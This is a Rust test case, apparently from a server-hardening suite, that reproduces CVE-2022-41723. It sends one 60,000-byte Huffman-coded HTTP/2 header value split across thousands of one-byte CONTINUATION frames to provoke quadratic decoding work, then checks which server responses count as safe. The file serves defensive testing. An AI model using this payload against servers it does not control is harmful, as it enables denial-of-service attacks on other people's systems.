//! One long text in Huffman's code that comes a byte a frame: who begins it anew with each has quadratic
//! work.

use crate::prelude::*;

pub(super) const ROW: Row = Row {
    name: "http2-continuations-of-a-byte",
    from: "CVE-2022-41723",
    who: Who::Anonymous,
    size: Sizes { full: 60_000, ten: 2_000 },
    act: Act::Scene(scene),
    law: Law::says(&[200, 400, 431])
        .or(&[
            Said::Away(http2::PROTOCOL_ERROR),
            Said::Away(http2::ENHANCE_YOUR_CALM),
            Said::Away(http2::COMPRESSION_ERROR),
            Said::Closed,
            Said::Open,
        ])
        .many(5),
    ..Row::BASE
};

fn scene(stage: Stage, size: usize) -> Scene {
    Box::pin(async move {
        let mut http2 = stage.http2().await?;
        let block = http2.block("GET", "/livez", &[]);
        // A name, and a value of 60,000 bytes in Huffman's code, `0` to `0`: five bits each, all zero.
        let value = [&[0x00, 0x01, b'x', 0xff][..], &varint(60_000 - 127)].concat();
        http2.write(&http2::frame(http2::HEADERS, http2::END_STREAM, 1, &[block, value].concat())).await;
        let more = http2::frame(http2::CONTINUATION, 0, 1, &[0]).repeat(1_000);
        http2.pour(size / 1_000, stage.push(), |_| more.clone()).await;
        http2.write(&http2::frame(http2::CONTINUATION, http2::END_HEADERS, 1, &[])).await;
        Ok(http2.hear(1, stage.patience()).await)
    })
}
